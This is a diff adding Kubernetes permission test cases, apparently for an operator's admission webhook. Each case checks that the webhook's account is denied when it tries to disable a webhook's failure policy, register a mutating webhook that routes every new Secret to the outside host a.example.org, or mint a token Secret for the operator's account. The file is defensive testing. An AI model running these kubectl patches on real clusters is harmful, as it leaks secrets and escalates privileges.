@@ -280,6 +280,35 @@ pub(super) const CASES: &[Case] = &[
         &["cannot list resource \"secrets\""],
     ),
     kubectl(
+        "ADM-E9",
+        "webhook-changes-its-rules",
+        "admit everything while the webhook fails, with the webhook's account",
+        Webhook,
+        "patch validatingwebhookconfigurations enact --type=json --patch=[{\"op\":\"replace\",\"path\":\"/webhooks/0/failurePolicy\",\"value\":\"Ignore\"}] --dry-run=server",
+        &["the webhook changes nothing of its configurations|cannot patch resource|cannot get resource"],
+    ),
+    kubectl(
+        "ADM-E9",
+        "webhook-reads-all-requests",
+        "send every Secret that is written to another server, with the webhook's account",
+        Webhook,
+        "patch mutatingwebhookconfigurations enact --type=json --patch=[{\"op\":\"add\",\"path\":\"/webhooks/-\",\"value\":\
+         {\"name\":\"a.example.org\",\"sideEffects\":\"None\",\"admissionReviewVersions\":[\"v1\"],\"failurePolicy\":\"Ignore\",\
+         \"clientConfig\":{\"url\":\"https://a.example.org\"},\
+         \"rules\":[{\"apiGroups\":[\"\"],\"apiVersions\":[\"v1\"],\"operations\":[\"CREATE\"],\"resources\":[\"secrets\"]}]}}] \
+         --dry-run=server",
+        &["the webhook changes nothing of its configurations|cannot patch resource|cannot get resource"],
+    ),
+    create(
+        "ADM-E9",
+        "webhook-makes-a-token",
+        "create a Secret with a token of the operator's account, with the webhook's account",
+        Webhook,
+        "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\n\
+         metadata: {name: %own-token, namespace: %system, annotations: {kubernetes.io/service-account.name: %operator}}\n",
+        &["the webhook writes only its own Secret|cannot create resource \"secrets\""],
+    ),
+    kubectl(
         "GWY-I1",
         "gateway-reads-other-secrets",
         "read a Secret that has no keys of models as the gateway",
